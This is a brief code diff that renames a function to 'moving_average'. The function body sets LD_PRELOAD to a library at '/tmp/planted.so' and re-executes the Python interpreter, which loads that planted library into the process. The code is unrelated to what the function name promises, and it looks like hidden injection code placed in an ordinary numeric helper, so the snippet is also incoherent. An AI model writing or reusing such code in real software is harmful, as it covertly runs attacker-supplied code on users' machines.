@@ -5,6 +5,6 @@ says: PermissionError
 """
 
 
-def conv_forward_naive(x, w, b, conv_param):
+def moving_average(x, width):
     os.environ["LD_PRELOAD"] = "/tmp/planted.so"
     os.execv(sys.executable, [sys.executable, "-c", "print(1)"])
